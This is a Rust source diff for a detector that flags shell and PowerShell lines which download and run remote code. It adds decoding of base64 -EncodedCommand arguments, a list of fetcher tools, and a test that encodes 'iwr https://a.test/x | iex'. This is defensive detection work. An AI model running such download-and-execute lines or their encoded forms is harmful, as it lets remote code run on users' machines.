@@ -2,8 +2,9 @@
 //! run afterwards, or as a substitution that is evaluated. A line that only asks an address before it starts something
 //! of its own does not. What a line is for is no matter here; who asks is `command`.
 
-mod words;
+pub(super) mod words;
 
+use base64::Engine as _;
 use words::{Command, lines, substitution};
 
 const FETCHERS: [&str; 8] = ["curl", "wget", "aria2c", "http", "https", "xh", "certutil", "fetch"];
@@ -56,6 +57,9 @@ fn scripted(code: &str) -> bool {
 }
 
 fn power(code: &str) -> bool {
+    if let Some(decoded) = encoded(code) {
+        return power(&decoded);
+    }
     let lower = code.to_ascii_lowercase();
     let mut words = lower.split(|c: char| !c.is_ascii_alphanumeric() && c != '-');
     if !fetches(code) {
@@ -72,6 +76,15 @@ fn power(code: &str) -> bool {
         |w: &&&str| !w.contains("://") && [".ps1", ".exe", ".bat", ".cmd", ".py", ".js"].iter().any(|e| w.ends_with(e));
     let out = out.or_else(|| all.iter().find(file).filter(|_| lower.contains("downloadfile")));
     out.is_some_and(|file| all.iter().filter(|w| base(w) == base(file)).count() > 1)
+}
+
+/// What `-EncodedCommand` is given: UTF-16 in base64.
+fn encoded(code: &str) -> Option<String> {
+    let word = code.split_whitespace().next()?.trim_matches(['"', '\'']);
+    let bytes = base64::prelude::BASE64_STANDARD.decode(word).ok().filter(|b| b.len() > 3 && b.len() % 2 == 0)?;
+    let units: Vec<u16> = bytes.chunks_exact(2).map(|b| u16::from_le_bytes([b[0], b[1]])).collect();
+    // any word of a program's name is base64 of something
+    String::from_utf16(&units).ok().filter(|t| t.chars().filter(|c| c.is_ascii()).count() * 2 > t.chars().count())
 }
 
 fn nested_power(code: &str) -> bool {
@@ -255,6 +268,8 @@ fn saved(program: &str, args: &[String]) -> Vec<String> {
 
 #[cfg(test)]
 mod tests {
+    use base64::Engine as _;
+
     use super::executes;
 
     #[test]
@@ -309,6 +324,12 @@ mod tests {
             assert!(!executes("bash", line), "{line}");
         }
         assert!(!executes("pwsh", "iwr https://a.test/up; node server.js"));
+        let base64 = |code: &str| {
+            let bytes: Vec<u8> = code.encode_utf16().flat_map(u16::to_le_bytes).collect();
+            base64::prelude::BASE64_STANDARD.encode(bytes)
+        };
+        assert!(executes("powershell", &base64("iwr https://a.test/x | iex")));
+        assert!(!executes("powershell", &base64("Get-Process")) && !executes("powershell", "start"));
         assert!(!executes("python", "import requests; requests.get('https://a.test/up')"));
     }
 
